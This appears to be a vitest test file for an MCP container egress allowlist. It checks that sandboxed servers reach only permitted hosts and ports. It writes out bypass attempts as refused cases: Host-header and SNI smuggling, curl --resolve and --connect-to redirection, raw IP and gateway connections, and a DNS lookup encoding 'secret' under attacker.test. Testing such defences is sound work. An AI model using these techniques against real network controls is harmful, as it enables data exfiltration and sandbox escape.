import { deferred } from '#core';
import { createContainers, type AllowedHost, type McpContainers, type NameLookup } from '#mcp';
import { testCertificate } from '#testing';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { dockerMissing, nodeImage } from './docker-engine.ts';
import { runCommand } from './harness.ts';
import { launchOf, partsOf, secretsOf, talkTo, testClock, testDocker, testLog, type Talk } from './mcp-containers.ts';
import { mcpScriptImage } from './mcp-images.ts';
import { scriptServer } from './mcp-script-server.ts';

const curl = await runCommand(['sh', '-c', 'command -v curl']);
const missing = (await dockerMissing()) ?? (curl.code === 0 ? undefined : 'no curl on PATH');
const home = `/test/mcp-egress/${process.pid}`;

/** Answers on all ports, and says what it was asked. */
const upstreamProgram = `
const say = (request, response) => response.end('heard ' + request.headers.host + ' ' + request.url);
require('node:http').createServer(say).listen(80);
require('node:http').createServer(say).listen(8080);
require('node:https').createServer(${JSON.stringify(testCertificate)}, say).listen(443);
for (const port of [5432, 6543]) {
  require('node:net').createServer((socket) => socket.on('data', (bytes) => socket.end('port ' + port + ' heard ' + bytes + '\\n'))
    .on('error', () => 0)).listen(port, () => console.log('up'));
}
require('node:dgram').createSocket('udp4').on('message', function (bytes, from) { this.send('udp', from.port, from.address); }).bind(53);
`;

async function startUpstream(name: string): Promise<string> {
  const run = await runCommand(['docker', 'run', '-d', '--rm', '--name', name, await nodeImage(), upstreamProgram]);
  if (run.code !== 0) throw new Error(run.stderr);
  const said = async (): Promise<string> => (await runCommand(['docker', 'logs', name])).stdout;
  await vi.waitFor(async () => expect(await said()).toBe('up\nup\n'), { timeout: 20_000, interval: 50 });
  const format = '{{.NetworkSettings.IPAddress}}';
  return (await runCommand(['docker', 'inspect', '--format', format, name])).stdout.trim();
}

describe.skipIf(missing !== undefined)('a server that may only reach some hosts', () => {
  const upstreams = ['one', 'two'].map((name) => `gantry-test-upstream-${name}-${process.pid}`);
  const refusals: string[] = [];
  const attackerLookup = deferred<NameLookup>();
  let containers: McpContainers;
  let image: string;
  let one: string;
  let talk: Talk;
  const allow: readonly AllowedHost[] = [
    { host: 'api.test', port: 80, protocol: 'http' },
    { host: 'api.test', port: 443, protocol: 'https' },
    { host: '*.wild.test', port: 8080, protocol: 'http' },
    { host: 'db.test', port: 5432, protocol: 'tcp' },
    { host: 'other-db.test', port: 5432, protocol: 'tcp' },
  ];

  beforeAll(async () => {
    image = await mcpScriptImage(scriptServer, { programs: [curl.stdout.trim()] });
    one = await startUpstream(upstreams[0] ?? '');
    const two = await startUpstream(upstreams[1] ?? '');
    containers = createContainers({
      docker: testDocker(),
      secrets: secretsOf({}),
      home,
      node: process.execPath,
      clock: testClock,
      log: {
        ...testLog,
        warn: (message, fields) => void refusals.push(`${message} ${JSON.stringify(fields)}`),
      },
      onLookup(lookup) {
        if (lookup.name.endsWith('.attacker.test')) attackerLookup.resolve(lookup);
      },
      limits: { endMs: 300, termMs: 300, lingerMs: 60_000 },
    });
    const names = ['api.test', 'evil.test', 'a.wild.test', 'wild.test', 'db.test'];
    talk = await talkTo(
      containers.transport,
      launchOf(image, {
        network: { kind: 'egress', allow },
        extraHosts: [...names.map((name) => `${name}:${one}`), `other-db.test:${two}`],
      }),
    );
  });
  afterAll(async () => {
    await talk.connection.close();
    await containers.close();
    for (const name of upstreams) await runCommand(['docker', 'rm', '-f', name]);
    expect(await partsOf(home)).toEqual([]);
  });

  const get = (url: string, options: object = {}): Promise<string> =>
    talk.call('get', { url, options: { ...options } });
  const viaProxy = (...args: string[]): Promise<string> => talk.call('curl', { args });
  const direct = (...args: string[]): Promise<string> => viaProxy('--noproxy', '*', ...args);

  describe('reaches them', () => {
    it('with a client that knows of proxies', async () => {
      expect(await viaProxy('http://api.test/x')).toBe('heard api.test /x');
      expect(await viaProxy('-k', 'https://api.test/x')).toBe('heard api.test /x');
      expect(await viaProxy('http://a.wild.test:8080/y')).toBe('heard a.wild.test:8080 /y');
    });

    it('with clients that know nothing of proxies, by their names alone', async () => {
      expect(await get('http://api.test/x')).toBe('200 heard api.test /x');
      expect(await get('https://api.test/x', { rejectUnauthorized: false })).toBe('200 heard api.test /x');
      expect(await get('http://a.wild.test:8080/y')).toBe('200 heard a.wild.test:8080 /y');
      expect(await direct('-k', 'https://api.test/x')).toBe('heard api.test /x');
    });

    it('over plain connections, each of two that differ by their name alone', async () => {
      expect(await talk.call('connect', { host: 'db.test', port: 5432, say: 'hi' })).toBe('port 5432 heard hi');
      await runCommand(['docker', 'stop', '-t', '0', upstreams[1] ?? '']);
      expect(await talk.call('connect', { host: 'db.test', port: 5432, say: 'hi' })).toBe('port 5432 heard hi');
      expect(await talk.call('connect', { host: 'other-db.test', port: 5432, say: 'hi' })).not.toContain('heard');
    });
  });

  describe('is refused', () => {
    it('another host, with the reason where its client listens to one', async () => {
      expect(await viaProxy('http://evil.test/')).toMatch(/^Gantry: this server may not reach evil\.test:80\./);
      expect(await viaProxy('-k', 'https://evil.test/')).toMatch(/curl 56 .*403/);
      expect(await get('http://evil.test/')).toBe('ENOTFOUND');
      expect(refusals.join('\n')).toContain('"host":"evil.test"');
    });

    it('another port of an allowed host, and the name above a pattern', async () => {
      expect(await viaProxy('http://api.test:8080/')).toMatch(/may not reach api\.test:8080/);
      expect(await viaProxy('http://wild.test:8080/')).toMatch(/may not reach wild\.test:8080/);
      expect(await talk.call('connect', { host: 'api.test', port: 6543, say: 'hi' })).not.toContain('heard');
    });

    it('a host that is named only inside of what an allowed one was asked for', async () => {
      expect(await get('http://api.test/', { headers: { host: 'evil.test' } })).toMatch(/^403 /);
      expect(await get('https://api.test/', { servername: 'evil.test', rejectUnauthorized: false })).toMatch(/^E/);
      expect(await direct('-k', '--resolve', 'evil.test:443:127.0.0.1', 'https://evil.test/')).toMatch(/^curl 7 /);
      expect(await viaProxy('-k', '--connect-to', 'evil.test:443:api.test:443', 'https://evil.test/')).toMatch(
        /^curl (35|56) /,
      );
    });

    it('any address, inside and outside, this machine too', async () => {
      for (const host of [one, '172.17.0.1', '1.1.1.1', '192.0.2.1']) {
        expect(await talk.call('connect', { host, port: 80, say: 'GET / HTTP/1.0\r\n\r\n' })).toMatch(
          /^(ENETUNREACH|EHOSTUNREACH|TIMEOUT)$/,
        );
      }
      expect(await viaProxy(`http://${one}/`)).toMatch(/may not reach/);
    });

    it('its own gateway: the machine is not on its network', async () => {
      const { stdout } = await runCommand([
        'docker',
        'network',
        'ls',
        '-q',
        '--filter',
        `label=gantry.mcp.home=${home}`,
      ]);
      const facts = await runCommand(['docker', 'network', 'inspect', stdout.trim()]);
      const [network] = JSON.parse(facts.stdout) as { Internal: boolean; IPAM: { Config: { Gateway: string }[] } }[];
      expect(network?.Internal).toBe(true);
      const gateway = network?.IPAM.Config[0]?.Gateway ?? '';
      const result = await talk.call('connect', { host: gateway.split('/')[0] ?? '', port: 22, say: 'x' });
      expect(result).toMatch(/^(ENETUNREACH|EHOSTUNREACH|TIMEOUT)$/);
    });

    it('names of its own making: what it asks for is asked of nobody', async () => {
      expect(await talk.call('lookup', { host: 'c2VjcmV0.attacker.test' })).toBe('ENOTFOUND');
      expect(await talk.call('resolve', { host: 'c2VjcmV0.attacker.test' })).toBe('ENOTFOUND');
      expect(await attackerLookup.promise).toEqual({
        server: 'script',
        name: 'c2vjcmv0.attacker.test',
        isAllowed: false,
      });
      expect(await talk.call('udp', { host: one, port: 53 })).toMatch(/^(ENETUNREACH|EHOSTUNREACH|TIMEOUT)$/);
    });
  });

  it('shares its way out with its other containers, and with no other server', async () => {
    const plan = launchOf(image, {
      network: { kind: 'egress', allow },
      server: 'another',
      extraHosts: [`api.test:${one}`],
    });
    const other = await talkTo(containers.transport, plan);
    expect(await other.call('get', { url: 'http://api.test/x' })).toBe('200 heard api.test /x');
    const [proxy] = (await talk.call('env', { name: 'http_proxy' })).match(/\d+\.\d+\.\d+\.\d+/) ?? [];
    expect(await other.call('connect', { host: proxy ?? '', port: 3128, say: 'x' })).toMatch(
      /^(ENETUNREACH|EHOSTUNREACH|TIMEOUT)$/,
    );
    await other.connection.close();
    // Nor with whoever else is on Docker's own network, where the proxies are too.
    const filter = `label=gantry.mcp.home=${home}`;
    const ids = await runCommand(['docker', 'ps', '-q', '--filter', filter, '--filter', 'label=gantry.mcp=proxy']);
    const format = '{{.NetworkSettings.Networks.bridge.IPAddress}}';
    const proxies = await runCommand(['docker', 'inspect', '--format', format, ...ids.stdout.trim().split('\n')]);
    const stranger = await talkTo(containers.transport, launchOf(image, { network: { kind: 'open' } }));
    for (const host of proxies.stdout.trim().split('\n')) {
      expect(await stranger.call('connect', { host, port: 3128, say: 'x' })).toBe('ECONNREFUSED');
    }
    await stranger.connection.close();
  });
});
